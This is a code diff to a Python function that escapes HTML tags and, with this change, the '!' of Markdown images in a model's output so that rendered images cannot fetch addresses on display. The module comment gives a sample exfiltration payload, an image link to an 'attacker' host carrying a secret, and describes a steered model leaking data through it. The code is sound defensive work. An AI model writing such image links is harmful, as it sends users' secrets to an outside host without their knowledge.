@@ -9,6 +9,11 @@ or a declaration (``\\<`` is CommonMark's escape for a literal ``<``), everywher
 indented code blocks and code spans show backslashes as written, so they are left as they are, and so are
 autolinks (``<https://…>``). Text that had nothing to hide comes back as it was.
 
+An image (``![alt](https://…)``, or ``![alt][ref]``) loses its ``!`` the same way (``\\!``): a notebook, or a
+saved ``.md`` opened in a viewer, would fetch its address as soon as it is shown — a steered model writing
+``![](https://attacker/?d=SECRET)`` would send the secret without a click. It stays a link, for the person
+to follow or not.
+
 Every front end that renders Markdown calls this one function on the model's text before rendering it: the
 REPL's and terminal IPython's rich renderer, Jupyter's display, and the saved notebook, script and transcript.
 Piped output is plain text and needs none of it. The block structure comes from markdown-it, the parser rich
@@ -22,8 +27,8 @@ import re
 __all__ = ["literal_tags"]
 
 # A "<" that opens something a CommonMark renderer reads as HTML: a tag, a closing tag, a comment, a
-# processing instruction or a declaration.
-_OPENS = re.compile(r"<(?=[A-Za-z/!?])")
+# processing instruction or a declaration; and the "!" that makes a link an image.
+_OPENS = re.compile(r"<(?=[A-Za-z/!?])|!(?=\[)")
 # ``<scheme:…>`` and ``<name@host>`` are links, shown with their text: not hidden, left as they are.
 _AUTOLINK = re.compile(
     r"<(?:[A-Za-z][A-Za-z0-9+.\-]{1,31}:[^\s<>]*"
@@ -34,8 +39,9 @@ _BACKTICKS = re.compile(r"`+")
 
 
 def literal_tags(text: str) -> str:
-    """``text`` (Markdown) with every ``<`` outside code that would start HTML escaped as ``\\<``."""
-    if "<" not in text or not _OPENS.search(text):
+    """``text`` (Markdown) with every ``<`` outside code that would start HTML escaped as ``\\<``, and the
+    ``!`` of every image as ``\\!``."""
+    if ("<" not in text and "![" not in text) or not _OPENS.search(text):
         return text
     lines = text.split("\n")
     code = _code_lines(text)
@@ -103,8 +109,8 @@ def _escape_text(text: str) -> str:
     def escape(m: re.Match[str]) -> str:
         at = m.start()
         if _escaped(text, at) or _AUTOLINK.match(text, at):
-            return "<"
-        return "\\<"
+            return m.group()
+        return "\\" + m.group()
 
     return _OPENS.sub(escape, text)
 
